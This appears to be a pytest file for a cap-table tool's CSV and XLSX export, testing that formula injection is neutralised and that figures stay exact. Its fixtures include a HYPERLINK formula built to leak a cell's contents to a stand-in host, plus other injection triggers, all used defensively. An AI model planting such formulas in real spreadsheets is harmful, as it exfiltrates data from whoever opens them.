"""Exports (app.export): formula injection neutralised in CSV and XLSX; numbers as numbers, exact text beside any the
spreadsheet cannot hold; the cap table's export holds the same figures as its JSON."""

from __future__ import annotations

import csv
import io
from datetime import date
from fractions import Fraction as F
from pathlib import Path

import openpyxl
import pytest

from tests.app.books import AS_OF, seed_state, state_of, two_companies
from warrantbook.app import export
from warrantbook.app.captable import cap_table_sheet, company_cap_table, fund_sheet, fund_view
from warrantbook.core.errors import BadInput

EVIL = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
TRIGGERS = [EVIL, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]


@pytest.mark.parametrize("text", TRIGGERS)
def test_neutralise_every_owasp_trigger(text: str) -> None:
    assert export.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["GSSF Master Fund, L.P.", "1,234", "a=b", "", "'quoted"])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert export.neutralise(text) == text


def _sheet() -> export.Sheet:
    cols = (export.Column("name", "Name"), export.Column("shares", "Shares", export.SHARES), export.Column("fd", "Share", export.PERCENT))
    return export.Sheet("t", cols, [{"name": EVIL, "shares": "7000000/3", "fd": "0.425"}, {"name": "-1", "shares": "5", "fd": None}])


def test_csv_neutralises_and_keeps_numbers_exact() -> None:
    rows = list(csv.reader(io.StringIO(export.to_csv(_sheet()).decode("utf-8-sig"))))
    assert rows[0] == ["Name", "Shares", "Share"]
    assert rows[1] == ["'" + EVIL, "7000000/3", "0.425"]
    assert rows[2] == ["'-1", "5", ""]


def test_xlsx_text_is_text_numbers_are_numbers_and_exact_beside(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    export.write([_sheet()], path)
    ws = openpyxl.load_workbook(path).active
    assert [c.value for c in ws[1]] == ["Name", "Shares", "Shares (exact)", "Share"]  # 0.425 is held as written: no twin
    name, shares, shares_exact, share = ws[2]
    assert name.value == "'" + EVIL and name.data_type == "s"  # a string, never a formula
    assert isinstance(shares.value, float) and abs(F(shares.value) - F(7_000_000, 3)) < F(1, 10**6)
    assert shares_exact.value == "7000000/3"  # 1/3 cannot be a double: the exact value beside it
    assert share.value == pytest.approx(0.425) and share.number_format == "0.00%"
    assert ws["B3"].value == 5 and isinstance(ws["B3"].value, int) and ws["C3"].value == "5"


def test_a_number_column_refuses_text() -> None:
    sheet = export.Sheet("t", (export.Column("shares", "Shares", export.SHARES),), [{"shares": "=1+1"}])
    with pytest.raises(BadInput) as exc:
        export.to_csv(sheet)
    assert exc.value.field == "shares" and "row 1" in exc.value.message


def test_a_number_column_refuses_a_flag_and_an_export_is_bounded() -> None:
    """True is an int to Python: a number column must not write it as 1. More rows than one sheet holds: refused."""
    sheet = export.Sheet("t", (export.Column("shares", "Shares", export.SHARES),), [{"shares": True}])
    with pytest.raises(BadInput) as exc:
        export.to_csv(sheet)
    assert exc.value.field == "shares" and "True" in exc.value.message
    row = {"shares": "1"}
    big = export.Sheet("t", (export.Column("shares", "Shares", export.SHARES),), [row] * (export.MAX_ROWS + 1))
    with pytest.raises(BadInput) as exc:
        export.to_csv(big)
    assert exc.value.field == "rows"


def test_csv_holds_one_table_and_names_are_checked(tmp_path: Path) -> None:
    with pytest.raises(BadInput):
        export.render([_sheet(), _sheet()], "csv")
    with pytest.raises(BadInput):
        export.kind_of(tmp_path / "x.ods")
    assert export.kind_of("A.XLSX") == "xlsx"


def _xlsx_rows(data: bytes) -> list[dict[str, object]]:
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    header = [c.value for c in ws[1]]
    return [dict(zip(header, (c.value for c in row))) for row in ws.iter_rows(min_row=2)]


def _exact(row: dict[str, object], title: str) -> F | None:
    """A figure from an exported row: its exact twin when the workbook has one, else the number itself."""
    twin = row.get(f"{title} (exact)")
    value = twin if twin is not None else row[title]
    return None if value is None else F(str(value)) if not isinstance(value, float) else F(value)


@pytest.mark.parametrize("which", ["seed", "split"])
def test_cap_table_export_holds_the_json_figures(which: str) -> None:
    d = (company_cap_table(seed_state(), "atg", date(2006, 12, 29)) if which == "seed"
         else company_cap_table(state_of(two_companies()), "alpha", AS_OF))
    sheet = cap_table_sheet(d)
    rows = _xlsx_rows(export.to_xlsx([sheet]))
    csv_rows = list(csv.DictReader(io.StringIO(export.to_csv(sheet).decode("utf-8-sig"))))
    assert len(rows) == len(csv_rows) == len(sheet.rows)
    company = {r["Item"]: r for r in rows if r["Section"] == "company"}
    assert _exact(company["shares outstanding"], "Shares") == F(d["outstanding"])
    assert _exact(company["fully diluted shares"], "Shares") == F(d["fully_diluted_shares"])
    assert _exact(company["reserved under §6 (required)"], "Shares") == F(d["reserved"]["required"])
    for o in d["options"]:
        [row] = [r for r in rows if r["Section"] == "option" and r["Option"] == o["option"]]
        assert _exact(row, "Shares") == F(o["remaining"])
        assert _exact(row, "Intrinsic value") == F(o["intrinsic_value"]) or abs(_exact(row, "Intrinsic value") - F(o["intrinsic_value"])) < F(1, 10**6)
        assert _exact(row, "Fully diluted") == F(o["fully_diluted"]) or abs(_exact(row, "Fully diluted") - F(o["fully_diluted"])) < F(1, 10**12)
        [crow] = [r for r in csv_rows if r["Section"] == "option" and r["Option"] == o["option"]]
        assert (crow["Shares"], crow["Intrinsic value"], crow["Fully diluted"]) == (o["remaining"], o["intrinsic_value"], o["fully_diluted"])
    for h in d["holders"]:
        [crow] = [r for r in csv_rows if r["Section"] == "holder" and r["Holder"] == h["holder"]["id"]]
        assert crow["Fully diluted"] == h["fully_diluted"] and crow["Shares"] == h["fully_diluted_shares"]


def test_a_holder_named_like_a_formula_is_neutralised_in_both_exports() -> None:
    d = fund_view(state_of(two_companies(holder_name=EVIL)), "fund", AS_OF)
    sheet = fund_sheet(d)
    assert d["holder"]["name"] == EVIL  # the JSON keeps the name as given
    rows = _xlsx_rows(export.to_xlsx([sheet]))
    names = {r["Holder name"] for r in rows if r["Holder name"]}
    assert names == {"'" + EVIL}
    ws = openpyxl.load_workbook(io.BytesIO(export.to_xlsx([sheet]))).active
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no formula anywhere in the workbook
    text = export.to_csv(sheet).decode("utf-8-sig")
    assert all(not cell.startswith("=") for row in csv.reader(io.StringIO(text)) for cell in row)
    total = [r for r in rows if r["Section"] == "total"][0]
    assert abs(F(total["Intrinsic value"]) - F(475_000, 3)) < F(1, 10**6)


@pytest.mark.parametrize(("command", "key", "columns", "day"), [("list", "options", export.LIST_COLUMNS, "2006-06-10"),
                                                                ("due", "items", export.DUE_COLUMNS, "2006-03-16"),
                                                                ("history", "events", export.HISTORY_COLUMNS, "2006-06-10")])
def test_the_other_views_export_in_one_call(command: str, key: str, columns: tuple[export.Column, ...], day: str, tmp_path: Path) -> None:
    """list, due and history --out: the --json rows through the declared columns, opened again with openpyxl and csv."""
    import json

    from typer.testing import CliRunner

    from warrantbook.cli.main import app

    seed = str(Path(__file__).resolve().parents[2] / "examples" / "seed-option.yaml")
    result = CliRunner().invoke(app, [command, "--book", seed, "--as-of", day, "--json"])
    assert result.exit_code == 0, result.output
    rows = json.loads(result.stdout)[key]
    assert rows, command
    path = tmp_path / f"{command}.xlsx"  # the CLI's own export, not a sheet built here
    wrote = CliRunner().invoke(app, [command, "--book", seed, "--as-of", day, "--out", str(path)])
    assert wrote.exit_code == 0 and path.exists(), wrote.output
    got = _xlsx_rows(path.read_bytes())
    as_csv = tmp_path / f"{command}.csv"
    assert CliRunner().invoke(app, [command, "--book", seed, "--as-of", day, "--out", str(as_csv)]).exit_code == 0
    csv_rows = list(csv.DictReader(io.StringIO(as_csv.read_text("utf-8-sig"))))
    assert [r[columns[0].title] for r in csv_rows] == [str(r[columns[0].key] or "") for r in rows]
    assert len(got) == len(rows)
    first = columns[0]
    assert [g[first.title] for g in got] == [None if r[first.key] is None else r[first.key] if first.kind == export.TEXT else int(r[first.key])
                                             for r in rows]
    if command == "list":
        assert [g["Remaining shares"] for g in got] == [int(r["remaining_shares"]) for r in rows]
